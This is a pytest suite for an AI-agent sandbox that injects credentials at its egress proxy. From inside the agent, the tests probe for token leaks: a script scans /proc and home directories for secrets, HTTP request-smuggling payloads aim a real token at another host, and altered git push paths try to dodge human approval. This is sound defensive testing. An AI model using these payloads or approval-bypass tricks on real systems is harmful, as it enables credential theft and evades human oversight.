"""Issue 30, items 1 and 2, from inside a real agent: credentials injected
at the egress. The servers are real TLS servers in a network namespace of
the test's ("outside", 10.78.0.2; the proxy reaches it through
`[proxy] private_ranges`), their certificate from a test CA installed in
the bed's system trust store: git.test is `git http-backend` behind basic
auth, api.test a stand-in API recording the Authorization header it gets,
other.test a host no credential covers, recording the same, and
bad.test:8443 a covered host whose certificate is self-signed.

The agent holds only placeholders: clone, fetch and push work (the push
after a person approved the ref updates shown to them), the API gets the
real token, other.test and the agent's own view only ever the placeholder,
and bad.test no secret, with an error saying why. On the code before this
change the agent's `git credential fill` printed the token and GH_TOKEN
did not exist (seen failing)."""

from __future__ import annotations

import base64
import contextlib
import json
import time
from collections.abc import Iterator

import pytest
from journal_wait import journal_with
from loop_agent import lay_out, start_detached
from test_gate_bed import Agent, lev
from testbed import Testbed

pytestmark = pytest.mark.testbed

OUTSIDE = "10.78.0.2"
GIT_TOKEN = "gitinj-5ecret-d00d1e"
API_TOKEN = "apiinj-5ecret-c0ffee"
GH_TOKEN = "ghinj-5ecret-beef42"

BLUEPRINT = """
[agent]
name = "egress"
description = "runs the test's commands"
command = ["sh", "loop.sh"]
"""

CONFIG = """
[sandbox]
kind = "namespace"

[proxy]
private_ranges = ["10.78.0.0/24"]
ports = [443, 8443]

[taint]
approval_timeout = 30

[credentials.gitsrv]
kind = "git"
hosts = ["git.test"]
access = ["fetch", "push"]
secret_file = "/etc/leviath/inj-git.token"

[credentials.api]
kind = "http"
hosts = ["api.test", "bad.test:8443"]
value = "Bearer {secret}"
token_env = "GH_TOKEN"
secret_file = "/etc/leviath/inj-api.token"

# Item 3: the real gh (Debian's) inside the agent's own fence; ghe.test is an
# enterprise host to gh (https://ghe.test/api/v3/..., GH_ENTERPRISE_TOKEN).
[credentials.gh]
kind = "cli"
command = ["gh"]
hosts = ["ghe.test"]
value = "token {secret}"
token_env = "GH_ENTERPRISE_TOKEN"
secret_file = "/etc/leviath/inj-gh.token"
"""

HOSTS = f"""127.0.0.1 localhost
{OUTSIDE} git.test api.test other.test bad.test ghe.test
"""

SERVER = f"""
import base64, http.server, json, ssl, subprocess, threading

GOOD = "Basic " + base64.b64encode(b"x-access-token:{GIT_TOKEN}").decode()

def log(entry):
    with open("/srv/inj/log.jsonl", "a") as f:
        f.write(json.dumps(entry) + "\\n")

class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def reply(self, status, body, headers=()):
        self.send_response(status)
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def serve(self):
        host = self.headers.get("Host", "")
        auth = self.headers.get("Authorization", "")
        log({{"host": host, "port": self.server.server_address[1], "method": self.command,
             "path": self.path, "auth": auth}})
        if not host.startswith("git.test"):
            return self.reply(200, b"hello from " + host.encode() + b"\\n")
        if auth != GOOD:
            return self.reply(401, b"", [("WWW-Authenticate", 'Basic realm="t"')])
        path, _, query = self.path.partition("?")
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        env = {{"GIT_PROJECT_ROOT": "/srv/inj/git", "GIT_HTTP_EXPORT_ALL": "1",
               "REQUEST_METHOD": self.command, "PATH_INFO": path, "QUERY_STRING": query,
               "CONTENT_TYPE": self.headers.get("Content-Type", ""),
               "REMOTE_USER": "x", "REMOTE_ADDR": "10.78.0.1", "PATH": "/usr/bin:/bin",
               "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding", ""),
               "GIT_PROTOCOL": self.headers.get("Git-Protocol", "")}}
        out = subprocess.run(["git", "http-backend"], input=body, env=env,
                             capture_output=True).stdout
        sep = b"\\r\\n\\r\\n" if b"\\r\\n\\r\\n" in out else b"\\n\\n"
        head, _, rest = out.partition(sep)
        status, headers = 200, []
        for line in head.decode().splitlines():
            k, _, v = line.partition(":")
            if k.lower() == "status":
                status = int(v.split()[0])
            elif k:
                headers.append((k, v.strip()))
        self.reply(status, rest, headers)

    do_GET = do_POST = serve

    def log_message(self, *args):
        pass

def run(port, pem, key):
    srv = http.server.ThreadingHTTPServer(("{OUTSIDE}", port), H)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(pem, key)
    srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
    srv.serve_forever()

threading.Thread(target=run, args=(8443, "/srv/inj/bad.pem", "/srv/inj/bad.key"),
                 daemon=True).start()
run(443, "/srv/inj/tls.pem", "/srv/inj/tls.key")
"""


def log(bed: Testbed) -> list[dict[str, object]]:
    out = bed.run(["cat", "/srv/inj/log.jsonl"], check=False).stdout
    return [json.loads(line) for line in out.splitlines() if line.strip()]


def pending(bed: Testbed, agent_id: str, timeout: float = 30) -> dict:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for row in json.loads(lev(bed, "alice", "approvals", "--json").stdout):
            if row["agent"] == agent_id:
                return dict(row)
        time.sleep(0.2)
    raise AssertionError(f"no approval request of agent {agent_id} appeared")


def git_log(bed: Testbed) -> str:
    return bed.run(["git", "--git-dir", "/srv/inj/git/repo.git", "log", "--oneline",
                    "main"]).stdout


@contextlib.contextmanager
def servers(bed: Testbed, config: str) -> Iterator[None]:
    """The outside namespace and its TLS servers, the test CA in the bed's
    trust store, the tokens, /etc/hosts, and the daemon restarted with
    `config`; all undone after (shared with the container kind's test)."""
    old_config = bed.run("cat /etc/leviath/config.toml 2>/dev/null", check=False).stdout
    old_hosts = bed.read_file("/etc/hosts")
    bed.run(f"""
        set -e
        ip netns del lvinj 2>/dev/null || true
        ip link del lvih 2>/dev/null || true
        ip netns add lvinj
        ip link add lvih type veth peer name lvis netns lvinj
        ip addr add 10.78.0.1/24 dev lvih
        ip link set lvih up
        ip netns exec lvinj ip addr add {OUTSIDE}/24 dev lvis
        ip netns exec lvinj ip link set lvis up
        ip netns exec lvinj ip link set lo up
        rm -rf /srv/inj /root/injseed && mkdir -p /srv/inj/git
        git init -q --bare -b main /srv/inj/git/repo.git
        git init -q -b main /root/injseed && cd /root/injseed && echo hello > README
        git add README && git -c user.name=t -c user.email=t@t commit -q -m first
        git push -q /srv/inj/git/repo.git main
        cd /srv/inj
        openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=injtestca \
            -keyout ca.key -out ca.pem 2>/dev/null
        openssl req -newkey rsa:2048 -nodes -subj /CN=git.test -keyout tls.key \
            -out tls.csr 2>/dev/null
        printf 'subjectAltName=DNS:git.test,DNS:api.test,DNS:other.test,DNS:ghe.test\\n' > san.ext
        openssl x509 -req -in tls.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 \
            -extfile san.ext -out tls.pem 2>/dev/null
        openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=bad.test \
            -addext subjectAltName=DNS:bad.test -keyout bad.key -out bad.pem 2>/dev/null
        cp ca.pem /usr/local/share/ca-certificates/leviath-injtest.crt
        update-ca-certificates >/dev/null 2>&1
    """)
    bed.write_file("/etc/hosts", HOSTS)
    bed.write_file("/srv/inj/server.py", SERVER)
    bed.write_file("/etc/leviath/inj-git.token", GIT_TOKEN + "\n", mode=0o600)
    bed.write_file("/etc/leviath/inj-api.token", API_TOKEN + "\n", mode=0o600)
    bed.write_file("/etc/leviath/inj-gh.token", GH_TOKEN + "\n", mode=0o600)
    pid = bed.run("setsid ip netns exec lvinj python3 /srv/inj/server.py >/srv/inj/server.err "
                  "2>&1 </dev/null & echo $!").stdout.strip()
    bed.run("for i in $(seq 100); do curl -fs https://api.test/ready >/dev/null && exit 0; "
            "sleep 0.1; done; cat /srv/inj/server.err; exit 1")
    bed.run("rm -f /srv/inj/log.jsonl")
    bed.write_file("/etc/leviath/config.toml", config)
    bed.run(["systemctl", "restart", "leviathd"])
    try:
        yield
    finally:
        bed.run(["kill", pid], check=False)
        bed.run("ip netns del lvinj; rm -f /usr/local/share/ca-certificates/leviath-injtest.crt"
                " && update-ca-certificates --fresh >/dev/null 2>&1", check=False)
        bed.write_file("/etc/hosts", old_hosts)
        bed.write_file("/etc/leviath/config.toml", old_config)
        bed.run(["systemctl", "restart", "leviathd"])


@contextlib.contextmanager
def answering(bed: Testbed, a: Agent) -> Iterator[Agent]:
    """`a`, once it has answered a first command (the journal's last lines
    printed if it does not), stopped after (shared with the egress tests of
    the other kinds)."""
    try:
        try:
            a.call("true")
        except Exception:
            print(bed.run(["journalctl", "--no-pager", "-n", "40"]).stdout)
            raise
        yield a
    finally:
        lev(bed, "alice", "stop", a.id, check=False)


@pytest.fixture(scope="module")
def agent(testbed: Testbed) -> Iterator[Agent]:
    bed = testbed
    lay_out(bed, "egw", "egbp", BLUEPRINT)
    with servers(bed, CONFIG), answering(bed, Agent(
            bed, "alice", start_detached(bed, "egbp", "egw"),
            f"{bed.users['alice'].home}/egw")) as a:
        yield a


def _split(token: str) -> str:
    """The token as a shell word that is not the token's bytes in a row, so
    the script itself (written under the workdir) is no hit of its own scan."""
    return f"'{token[:4]}''{token[4:]}'"


PATTERNS = " ".join(f"-e {_split(t)}" for t in (GIT_TOKEN, API_TOKEN, GH_TOKEN))

# Run inside the agent while a clone runs: every place the agent's user can
# read that might hold a secret.
SNOOP = f"""
git clone -q https://git.test/repo.git snoop &
clone=$!
hits=""
while kill -0 $clone 2>/dev/null; do
  for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
    grep -q -a {PATTERNS} "$f" 2>/dev/null && hits="$hits $f"
  done
done
wait $clone; echo "clone=$?"
env | grep -c {PATTERNS}
grep -r -l -a {PATTERNS} "$HOME" . /tmp /run/leviath \
  2>/dev/null | head
echo "hits:$hits"
"""


def test_clone_works_and_no_secret_is_anywhere_the_agent_can_read(agent: Agent) -> None:
    rc, out, err = agent.call(SNOOP, timeout=60)
    assert rc == 0, err
    lines = out.splitlines()
    assert lines[0] == "clone=0", (out, err)
    # No file listed between the count and the /proc hits: a file the scan
    # finds is a line of its own there.
    assert lines[1:] == ["0", "hits:"], out
    assert GIT_TOKEN not in out + err and API_TOKEN not in out + err
    rc, out, _ = agent.call("cat snoop/README")
    assert out == "hello\n"


def test_git_credential_fill_gives_only_the_placeholder(agent: Agent) -> None:
    rc, out, err = agent.call("printf 'protocol=https\\nhost=git.test\\n\\n' | "
                              "git credential fill")
    assert rc == 0, err
    assert GIT_TOKEN not in out and "password=leviath-placeholder-" in out, out
    rc, out, err = agent.call("lev tool git_fetch https://git.test/repo.git")
    assert GIT_TOKEN not in out + err


def test_the_environment_holds_the_placeholder_and_the_bundle(agent: Agent) -> None:
    rc, out, err = agent.call("echo $GH_TOKEN; echo $SSL_CERT_FILE $GIT_SSL_CAINFO; "
                              "grep -c 'BEGIN CERTIFICATE' $SSL_CERT_FILE")
    assert rc == 0, err
    ph, files, count = out.splitlines()
    assert ph.startswith("leviath-placeholder-") and API_TOKEN not in out
    assert files == "/run/leviath/ca-bundle.pem /run/leviath/ca-bundle.pem"
    assert int(count) > 2  # the system's CAs and the agent's
    # The proxy's git settings survive the credential helper's (they were
    # overwritten by it: core.sshCommand was lost for such agents).
    rc, out, err = agent.call("git config http.proxy; git config core.sshCommand")
    assert out.splitlines() == ["http://127.0.0.1:3128",
                                "ssh -o ProxyCommand='lev connect %h %p'"], (out, err)


def test_an_ssh_origin_of_a_covered_host_is_fetched_over_https_with_the_token(
        agent: Agent) -> None:
    """There is no sshd at git.test: the clone works only by the rewrite."""
    rc, out, err = agent.call("rm -rf viassh && git clone -q git@git.test:repo.git viassh && "
                              "cat viassh/README && git -C viassh config remote.origin.url")
    assert rc == 0 and out.splitlines() == ["hello", "git@git.test:repo.git"], (out, err)


def test_the_api_gets_the_real_token_and_another_host_only_the_placeholder(
        testbed: Testbed, agent: Agent) -> None:
    rc, out, err = agent.call('curl -fsS https://api.test/user -H "Authorization: Bearer '
                              '$GH_TOKEN"; curl -fsS https://other.test/x -H '
                              '"Authorization: token $GH_TOKEN"')
    assert rc == 0, err
    assert out == "hello from api.test\nhello from other.test\n" and API_TOKEN not in out
    seen = log(testbed)
    api = [e for e in seen if e["host"] == "api.test" and e["path"] == "/user"]
    other = [e for e in seen if e["host"] == "other.test"]
    assert api and all(e["auth"] == f"Bearer {API_TOKEN}" for e in api), api
    assert other and all(API_TOKEN not in str(e["auth"]) and
                         str(e["auth"]).startswith("token leviath-placeholder-")
                         for e in other), other
    # An injected request is an audit record: method, host, path.
    out = journal_with(testbed, ["-o", "json", f"LEVIATH_AGENT={agent.id}",
                                 "LEVIATH_TOOL=network"], "credential api")
    assert API_TOKEN not in out
    recs = [json.loads(x) for x in out.splitlines() if x.strip()]
    assert any(r.get("LEVIATH_RULE") == "credential api" and "GET /user" in
               str(r.get("MESSAGE", "")) + str(r.get("LEVIATH_DETAIL", "")) for r in recs), recs


def test_a_host_whose_certificate_does_not_verify_gets_no_secret(
        testbed: Testbed, agent: Agent) -> None:
    rc, out, err = agent.call("curl -sS https://bad.test:8443/x")
    assert "does not verify" in out and "no credential was sent" in out, (rc, out, err)
    assert not [e for e in log(testbed) if e["port"] == 8443]


def test_a_push_waits_for_a_person_who_sees_the_ref_update(testbed: Testbed, agent: Agent
                                                          ) -> None:
    n = agent.submit("cd snoop && echo more >> README && git -c user.name=a -c "
                     "user.email=a@a commit -q -am second && git push -q origin main")
    row = pending(testbed, agent.id)
    assert row["tool"] == "git_push" and "git.test/repo.git" in row["target"], row
    assert "refs/heads/main:" in row.get("detail", "") and " -> " in row["detail"], row
    assert "second" not in git_log(testbed)  # held: nothing pushed yet
    lev(testbed, "alice", "approve", row["id"], "--once")
    rc, _, err = agent.result(n)
    assert rc == 0, err
    assert "second" in git_log(testbed)


def test_a_denied_push_pushes_nothing(testbed: Testbed, agent: Agent) -> None:
    n = agent.submit("cd snoop && echo third >> README && git -c user.name=a -c "
                     "user.email=a@a commit -q -am third && GIT_TERMINAL_PROMPT=0 git push "
                     "-q origin main")
    row = pending(testbed, agent.id)
    lev(testbed, "alice", "approve", row["id"], "--deny")
    rc, _, _err = agent.result(n)
    assert rc != 0
    assert "third" not in git_log(testbed)
    # A fetch needs no person.
    rc, _, err = agent.call("cd snoop && git fetch -q origin && git log --oneline origin/main")
    assert rc == 0, err


def test_lev_inspect_lists_which_hosts_carry_which_credential(testbed: Testbed, agent: Agent
                                                              ) -> None:
    out = lev(testbed, "alice", "inspect", agent.id).stdout
    assert ("credential api (kind http): injected at the proxy toward api.test, bad.test:8443 "
            "(Authorization header); the sandbox holds a placeholder in GH_TOKEN") in out, out
    assert "credential gitsrv (kind git): injected at the proxy toward git.test (git " \
           "fetch+push)" in out, out
    assert GIT_TOKEN not in out and API_TOKEN not in out


def test_the_real_gh_runs_in_the_agents_fence_and_its_token_reaches_only_its_host(
        testbed: Testbed, agent: Agent) -> None:
    """Item 3, the attacks of the old wrapper: `gh auth token` printed the
    token (in any form the agent asked for), `gh api --hostname HOST` sent it
    to HOST. Now gh is the real program in the agent's own fence, its token
    the placeholder; only ghe.test's requests get the secret."""
    if not testbed.run("command -v gh", check=False).stdout.strip():
        pytest.fail("gh is not installed (scripts/setup installs Debian's gh)")
    rc, out, err = agent.call("command -v gh; GH_HOST=ghe.test gh auth token; "
                              "GH_HOST=ghe.test gh api user; "
                              "gh api --hostname other.test user; "
                              "GH_HOST=ghe.test gh auth token | base64 -w0", timeout=60)
    assert GH_TOKEN not in out + err, (out, err)
    lines = out.splitlines()
    # The real one, no wrapper first on the PATH.
    assert lines[0] in ("/usr/bin/gh", "/bin/gh"), (out, err)
    assert lines[1].startswith("leviath-placeholder-"), (out, err)
    assert "hello from ghe.test" in out and "hello from other.test" in out, (out, err)
    assert GH_TOKEN.encode() not in base64.b64decode(lines[-1] + "=="), lines[-1]
    seen = log(testbed)
    ghe = [e for e in seen if e["host"] == "ghe.test"]
    assert ghe and all(e["auth"] == f"token {GH_TOKEN}" for e in ghe), ghe
    assert all(GH_TOKEN not in str(e["auth"]) for e in seen if e["host"] != "ghe.test")
    # The credential fence no longer runs it with the real token for the agent.
    args = json.dumps({"name": "gh", "args": ["api", "--hostname", "other.test", "user"]})
    rc, out, err = agent.call(f"lev tool credential --json '{args}'")
    assert rc != 0 and "injected at the egress" in err, (rc, out, err)
    assert GH_TOKEN not in out + err



def test_other_ways_to_a_covered_host_carry_only_the_placeholder_or_get_the_injection(
        testbed: Testbed, agent: Agent) -> None:
    """SOCKS5 to the covered name is injected like CONNECT; its address
    (an IP literal is never intercepted) and a CONNECT to another name with
    the covered Host header (curl --connect-to) are tunnels: the server only
    ever sees the placeholder there."""
    testbed.run("rm -f /srv/inj/log.jsonl")
    _rc, out, err = agent.call(
        'curl -fsS --proxy socks5h://127.0.0.1:3128 https://api.test/socks -H '
        '"Authorization: Bearer $GH_TOKEN"; '
        'curl -sSk https://10.78.0.2/byip -H "Authorization: Bearer $GH_TOKEN"; '
        'curl -sSk --connect-to api.test:443:other.test:443 https://api.test/fronted -H '
        '"Authorization: Bearer $GH_TOKEN"')
    assert API_TOKEN not in out + err, (out, err)
    seen = {str(e["path"]): str(e["auth"]) for e in log(testbed)}
    assert seen.get("/socks") == f"Bearer {API_TOKEN}", seen
    for path in ("/byip", "/fronted"):
        assert path in seen and API_TOKEN not in seen[path], seen
        assert seen[path].startswith("Bearer leviath-placeholder-"), seen


# ------------------------------------------------------------------ issue 44
# The agent speaks raw HTTP through the proxy to a covered host (api.test)
# whose TLS front also serves other.test, as CDNs and virtual hosts do.

PROBE = r'''
import base64, json, os, socket, ssl, subprocess, sys
ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
fill = subprocess.run(["git", "credential", "fill"], input="protocol=https\nhost=git.test\n\n",
                      capture_output=True, text=True).stdout
gitph = next(l[9:] for l in fill.splitlines() if l.startswith("password="))
subs = {b"PH": os.environ["GH_TOKEN"].encode(),
        b"GITAUTH": b"Basic " + base64.b64encode(b"x-access-token:" + gitph.encode())}

def send(host, raw):
    for k, v in subs.items():
        raw = raw.replace(k, v)
    s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
    s.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    got = b""
    while b"\r\n\r\n" not in got:
        more = s.recv(4096)
        if not more:
            return "no CONNECT answer"
        got += more
    t = ctx.wrap_socket(s, server_hostname=host)
    t.sendall(raw)
    out = b""
    try:
        while more := t.recv(65536):
            out += more
    except (OSError, ssl.SSLError):
        pass
    t.close()
    return out.decode("latin-1")

probes = json.load(sys.stdin)
print(json.dumps({name: send(host, raw.encode("latin-1")) for name, (host, raw) in probes.items()}))
'''

A = "Authorization: Bearer PH\r\n"
SMUGGLING = {
    # Item 1 of issue 44's "Why": each was a second request to other.test
    # with the real token, or a byte another parser reads as a line's end.
    "lf": ("api.test", f"GET /lf HTTP/1.1\r\nHost: api.test\r\n{A}X-A: 1\n\nGET /lf2 HTTP/1.1\n"
                       "Host: other.test\r\n\r\n"),
    "cr": ("api.test", f"GET /cr HTTP/1.1\r\nHost: api.test\r\n{A}X-A: 1\rHost: other.test\r\n"
                       "\r\n"),
    "nul": ("api.test", f"GET /nul HTTP/1.1\r\nHost: api.test\r\n{A}X-A: a\0b\r\n\r\n"),
    "target": ("api.test", f"GET /tg\nHost:other.test\n\nGET\t/tg2 HTTP/1.1\r\nHost: api.test"
                           f"\r\n{A}\r\n"),
}
SECOND = f"GET /p2 HTTP/1.1\r\nHost: other.test\r\n{A}\r\n"
OTHERS = {
    "pipelined": ("api.test", f"GET /p1 HTTP/1.1\r\nHost: api.test\r\n{A}\r\n" + SECOND),
    "in-body": ("api.test", f"POST /b HTTP/1.1\r\nHost: api.test\r\n{A}Content-Length: "
                            f"{len(SECOND)}\r\n\r\n" + SECOND),
}


def _probe(agent: Agent, probes: dict[str, tuple[str, str]], timeout: float = 60) -> int:
    agent.call(f"cat > probe.py <<'EOF'\n{PROBE}\nEOF")
    return agent.submit(f"python3 probe.py <<'EOF'\n{json.dumps(probes)}\nEOF")


def _records(testbed: Testbed, agent: Agent, text: str) -> list[str]:
    out = journal_with(testbed, ["-o", "json", f"LEVIATH_AGENT={agent.id}",
                                 "LEVIATH_TOOL=network"], text)
    recs = [json.loads(x) for x in out.splitlines() if x.strip()]
    return [f"{r.get('LEVIATH_RULE')}: {r.get('MESSAGE', '')} {r.get('LEVIATH_DETAIL', '')}"
            for r in recs]


def test_a_smuggled_request_never_takes_the_secret_to_another_name_on_the_front(
        testbed: Testbed, agent: Agent) -> None:
    """Issue 44 item 1: bare LF, bare CR, NUL and a LF in the target are
    refused by the proxy before anything is sent; a pipelined second request
    and one hidden in a body never reach a host. What reaches the covered
    host is audited request by request. On the code before, the bare LF made
    a second request to other.test carrying the real token (seen failing)."""
    testbed.run("rm -f /srv/inj/log.jsonl")
    rc, out, err = agent.result(_probe(agent, {**SMUGGLING, **OTHERS}))
    assert rc == 0, err
    got = json.loads(out)
    assert API_TOKEN not in out, got
    for name in SMUGGLING:
        assert got[name].startswith("HTTP/1.1 400 ") and "leviathd proxy" in got[name], got
    assert got["pipelined"].endswith("hello from api.test\n"), got
    assert got["in-body"].endswith("hello from api.test\n"), got
    seen = log(testbed)
    assert not [e for e in seen if e["host"] != "api.test" and API_TOKEN in str(e["auth"])], seen
    assert not [e for e in seen if e["host"] != "api.test"], seen
    assert sorted(str(e["path"]) for e in seen) == ["/b", "/p1"], seen
    assert all(e["auth"] == f"Bearer {API_TOKEN}" for e in seen), seen
    # Each request that reached the covered host is a record of its own.
    for what in ("GET /p1", "POST /b"):
        recs = [r for r in _records(testbed, agent, what) if what in r]
        assert recs and all(r.startswith("credential api:") for r in recs), recs


def _push_body(ref: str, caps: str = "report-status", options: tuple[str, ...] = ()) -> str:
    def pkt(text: str) -> str:
        return f"{len(text) + 4:04x}{text}"
    old, new = "0" * 40, "1" * 40
    body = pkt(f"{old} {new} {ref}\0{caps}") + "0000"
    if options:
        body += "".join(pkt(o) for o in options) + "0000"
    return body + "PACK"


def _push(path: str, ref: str) -> tuple[str, str]:
    body = _push_body(ref)
    return ("git.test", f"POST {path} HTTP/1.1\r\nHost: git.test\r\nAuthorization: GITAUTH\r\n"
                        "Content-Type: application/x-git-receive-pack-request\r\n"
                        f"Content-Length: {len(body)}\r\n\r\n{body}")


SPELLINGS = {
    "percent": _push("/repo.git/git-receive-p%61ck", "refs/heads/sp-percent"),
    "param": _push("/repo.git/git-receive-pack;x=1", "refs/heads/sp-param"),
    "slash": _push("/repo.git/git-receive-pack/", "refs/heads/sp-slash"),
    "case": _push("/repo.git/GIT-RECEIVE-PACK", "refs/heads/sp-case"),
    "get": ("git.test", "GET /repo.git/HEAD HTTP/1.1\r\nHost: git.test\r\n"
                        "Authorization: GITAUTH\r\n\r\n"),
}


def test_every_spelling_of_a_push_waits_for_a_person(testbed: Testbed, agent: Agent) -> None:
    """Issue 44 item 2: toward a git credential's host only git's own fetch
    goes without a person. `git-receive-p%61ck` (decoded by servers behind
    CGI), `;x=1`, a trailing `/`, capitals, and any other request carrying the
    token wait for an approval that names what they ask; denied, nothing
    reaches the host. On the code before, these went with the token and no
    approval (seen failing: no approval appeared)."""
    testbed.run("rm -f /srv/inj/log.jsonl")
    n = _probe(agent, SPELLINGS)
    for name, (_host, raw) in SPELLINGS.items():
        row = pending(testbed, agent.id)
        assert row["tool"] == "git_push", row
        if name == "get":
            assert "GET /repo.git/HEAD (not a git fetch)" in row["detail"], row
        else:
            ref = raw.split(" refs/heads/", 1)[1].split("\0", 1)[0]
            assert f"refs/heads/{ref}: create" in row["detail"], (name, row)
        lev(testbed, "alice", "approve", row["id"], "--deny")
    rc, out, err = agent.result(n)
    assert rc == 0, err
    got = json.loads(out)
    assert all(v.startswith("HTTP/1.1 403 ") for v in got.values()), got
    assert GIT_TOKEN not in out
    assert log(testbed) == [], log(testbed)


def test_a_push_of_200_refs_with_push_options_is_approved_seeing_all_of_it(
        testbed: Testbed, agent: Agent) -> None:
    """Issue 44 item 4: the approval shows every ref update and every push
    option, whole. On the code before, push options were not shown and the
    list was cut at 1,000 characters with no mark (seen failing)."""
    testbed.run(["git", "--git-dir", "/srv/inj/git/repo.git", "config",
                 "receive.advertisePushOptions", "true"])
    n = agent.submit("rm -rf many && git clone -q https://git.test/repo.git many && cd many && "
                     "for i in $(seq 200); do git branch b$i; done && GIT_TERMINAL_PROMPT=0 "
                     "git push -q -o ci.skip -o merge_request.create origin "
                     "'refs/heads/b*:refs/heads/b*'")
    row = pending(testbed, agent.id, timeout=60)
    detail = row["detail"]
    assert detail.startswith("200 ref update(s), 2 push option(s)"), detail[:200]
    for i in range(1, 201):
        assert f"refs/heads/b{i}: create" in detail, i
    assert "push option 'ci.skip'" in detail and "push option 'merge_request.create'" in detail
    lev(testbed, "alice", "approve", row["id"], "--deny")
    rc, _, _ = agent.result(n)
    assert rc != 0
    assert testbed.run(["git", "--git-dir", "/srv/inj/git/repo.git", "branch", "--list",
                        "b*"]).stdout == ""
